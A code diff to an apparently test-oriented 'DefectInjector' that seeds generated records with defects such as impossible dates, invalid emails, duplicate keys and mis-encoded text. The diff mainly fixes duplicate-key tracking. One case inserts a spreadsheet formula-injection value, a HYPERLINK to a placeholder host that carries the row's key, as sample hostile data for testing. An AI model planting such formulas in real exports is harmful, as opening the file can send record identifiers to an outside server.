@@ -67,6 +67,7 @@ export class DefectInjector {
     const keyIndex = fields.findIndex((f) => f.id === spec.keyField);
     const key = cells[keyIndex];
     const previous = this.previousKey.get(file);
+    // The key as written: a duplicate copies the key of the row before it as that row was written.
     this.previousKey.set(file, key);
     if (!this.rng.chance(this.rate)) return { cells };
     const nonEmpty = (type: FieldSpec["type"]): number[] => fields.flatMap((f, i) => (f.type === type && cells[i] !== "" && i !== keyIndex ? [i] : []));
@@ -95,7 +96,9 @@ export class DefectInjector {
     switch (kind) {
       case "impossible-date": return at(this.rng.pick(dates), this.rng.pick(IMPOSSIBLE_DATES));
       case "invalid-email": return at(this.rng.pick(emails), this.rng.pick(INVALID_EMAILS));
-      case "duplicate-id": return at(keyIndex, previous as string);
+      case "duplicate-id":
+        this.previousKey.set(file, previous as string);
+        return at(keyIndex, previous as string);
       case "over-long-text": return at(this.rng.pick(texts), overLong(this.rng));
       case "formula": return at(this.rng.pick(texts), `=HYPERLINK("http://example.invalid/chart?id=${key}","Open chart")`);
       case "mis-encoded": return at(this.rng.pick(texts), Buffer.from(this.rng.pick(ACCENTED), "latin1"));
